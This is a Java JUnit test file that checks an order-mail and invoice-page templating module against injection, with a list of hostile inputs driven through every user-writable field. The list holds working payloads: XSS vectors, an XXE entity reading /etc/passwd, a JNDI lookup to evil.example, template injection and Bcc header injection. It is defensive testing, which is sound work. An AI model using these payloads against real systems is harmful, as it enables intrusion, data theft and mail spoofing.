package dev.sefaresh.mail;

import static org.assertj.core.api.Assertions.assertThat;

import dev.sefaresh.spi.model.Address;
import dev.sefaresh.spi.model.Buyer;
import dev.sefaresh.spi.model.Message;
import dev.sefaresh.spi.model.OrderId;
import dev.sefaresh.spi.model.Tax;
import dev.sefaresh.spi.port.Mail;
import dev.sefaresh.spi.port.PrintedDocument;
import dev.sefaresh.spi.port.PrintedDocument.Line;
import dev.sefaresh.spi.port.PrintedDocument.TaxTotal;
import dev.sefaresh.spi.port.Wording;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.function.BiFunction;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.w3c.dom.Document;

/** Whatever is written into an order, its letters and pages have the shape that they have with harmless data. */
class InjectionTest {
    private static final Templates TEMPLATES = Templates.shipped();
    private static final String HARMLESS = "harmless";

    private static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "</td></tr></table><h1>Pay to IBAN XX</h1>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"https://evil.example\">click</a>",
            "\"><svg onload=alert(1)>",
            "' onmouseover='alert(1)",
            "\" style=\"position:fixed;top:0\" x=\"",
            "</style><style>*{display:none}",
            "}</style>{color:red}",
            "</title><script>1</script>",
            "--><script>1</script><!--",
            "<!--",
            "]]><![CDATA[<b>x</b>]]>",
            "<?xml version=\"1.0\"?>",
            "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
            "&lt;script&gt;",
            "&#60;script&#62;",
            "&amp;&nbsp;&unknown;",
            "javascript:alert(1)",
            "`onload=alert(1)`",
            "<bdi onclick=alert(1)>",
            "</bdi></bdi></p><p>",
            "<br/><br/>Bcc: eve@example.net",
            "{{number}}",
            "{{{link}}}",
            "{{#lines}}x{{/lines}}",
            "{{&reason}}",
            "{{>lines}}",
            "{{=<% %>=}}<%number%>",
            "{{/lines}}",
            "}}{{",
            "${jndi:ldap://evil.example/x}",
            "%s%n%x",
            "\u202ecod.exe\u202c",
            "\u2066a\u2069\u2069\u2069b",
            "\u2068\u2068\u2068",
            "\u2069</bdi>\u2068<bdi>",
            "a\r\nBcc: eve@example.net",
            "a\n\nTotal: 0.00",
            "a\u2028b\u2029c\u0085d",
            "\u0000\u0001\u0008\u001b[31m",
            "a\ud800b\udfffc",
            "\ufffe\uffff",
            "سلام <b>دنیا</b> \"x\"",
            "x".repeat(5_000),
            " \t ");

    /** Every text that somebody else can write. */
    private static final Map<String, BiFunction<Mail, String, Mail>> FIELDS = Map.ofEntries(
            Map.entry("number", document((document, text) -> document.withNumber(text))),
            Map.entry("reference", document((document, text) -> document.withReference(text))),
            Map.entry(
                    "code of a line", document((document, text) -> document.withLines(line(document, text, HARMLESS)))),
            Map.entry(
                    "text of a line", document((document, text) -> document.withLines(line(document, HARMLESS, text)))),
            Map.entry(
                    "code of a tax",
                    document((document, text) -> document.withTaxes(
                            new TaxTotal(Tax.included(text, "10"), document.total(), document.total())))),
            Map.entry("name", buyer((buyer, text) -> buyer.withName(text))),
            Map.entry("customer", buyer((buyer, text) -> buyer.withCustomer(text))),
            Map.entry("phone", buyer((buyer, text) -> buyer.withPhone(text))),
            Map.entry("tax number", buyer((buyer, text) -> buyer.withTaxNumber(text))),
            Map.entry(
                    "country",
                    buyer((buyer, text) -> buyer.withAddress(Optional.empty()).withCountry(text))),
            Map.entry("street", address((address, text) -> address.withStreet(text))),
            Map.entry("city", address((address, text) -> address.withCity(text))),
            Map.entry("order", (mail, text) -> mail.withOrder(OrderId.of(text))),
            Map.entry("reason", Mail::withReason),
            Map.entry(
                    "seller",
                    (mail, text) -> mail.withWording(new Wording(
                            text, mail.wording().channel(), mail.wording().language()))),
            Map.entry(
                    "channel",
                    (mail, text) -> mail.withWording(new Wording(
                            mail.wording().seller(), text, mail.wording().language()))));

    static Stream<Arguments> hostile() {
        return FIELDS.keySet().stream()
                .sorted()
                .flatMap(field -> HOSTILE.stream()
                        .filter(text -> mail("en", field, text).isPresent())
                        .map(text -> Arguments.of(field, text)));
    }

    @ParameterizedTest(name = "{0} {index}")
    @MethodSource("hostile")
    void changes_no_shape(String field, String text) {
        for (String language : List.of("en", "fa")) {
            Mail mail = mail(language, field, text).orElseThrow();
            Mail harmless = mail(language, field, HARMLESS).orElseThrow();
            Letter letter = TEMPLATES.letter(mail);
            Letter expected = TEMPLATES.letter(harmless);
            assertThat(letter.subject().codePoints()).noneMatch(Character::isISOControl);
            assertThat(letter.text().codePoints()).noneMatch(c -> c != '\n' && Character.isISOControl(c));
            assertThat(letter.text().lines().count())
                    .isLessThanOrEqualTo(expected.text().lines().count());
            isOfTheSameShape(Html.read(letter.html()), Html.read(expected.html()));
            isBalanced(letter.subject());
            isBalanced(letter.text());
            isOfTheSameShape(
                    Html.read(TEMPLATES.page(mail.document(), mail.wording())),
                    Html.read(TEMPLATES.page(harmless.document(), harmless.wording())));
        }
    }

    @Test
    void there_are_some_hundreds_of_them() {
        assertThat(hostile().count())
                .as("that documents do not refuse themselves")
                .isGreaterThan(400);
    }

    /** Empty if such a text cannot stand in an order at all. */
    private static Optional<Mail> mail(String language, String field, String text) {
        try {
            return Optional.of(FIELDS.get(field)
                    .apply(Samples.in(language).full(Message.INVOICE, TemplatesTest.in(language)), text));
        } catch (IllegalArgumentException refused) {
            return Optional.empty();
        }
    }

    /** A text without anything to read in it is left out, and what stands around it. */
    private static void isOfTheSameShape(Document page, Document expected) {
        List<String> left = new ArrayList<>(Html.shape(expected));
        assertThat(Html.shape(page))
                .allSatisfy(one -> assertThat(left.remove(one)).as(one).isTrue());
    }

    /** No isolate ends another's, and no other direction is begun. */
    private static void isBalanced(String text) {
        int open = 0;
        for (int c : text.codePoints().toArray()) {
            assertThat(c >= 0x202a && c <= 0x202e || c == 0x2066 || c == 0x2067).isFalse();
            open += c == 0x2068 ? 1 : c == 0x2069 ? -1 : 0;
            assertThat(open).isBetween(0, 1);
        }
        assertThat(open).isZero();
    }

    private static BiFunction<Mail, String, Mail> document(
            BiFunction<PrintedDocument, String, PrintedDocument> change) {
        return (mail, text) -> mail.withDocument(change.apply(mail.document(), text));
    }

    private static BiFunction<Mail, String, Mail> buyer(BiFunction<Buyer, String, Buyer> change) {
        return document((document, text) -> document.withBuyer(change.apply(document.buyer(), text)));
    }

    private static BiFunction<Mail, String, Mail> address(BiFunction<Address, String, Address> change) {
        return buyer(
                (buyer, text) -> buyer.withAddress(change.apply(buyer.address().orElseThrow(), text)));
    }

    private static Line line(PrintedDocument document, String code, String text) {
        Line line = document.lines().get(0);
        return new Line(code, text, line.quantity(), line.unitPrice(), line.amount());
    }
}
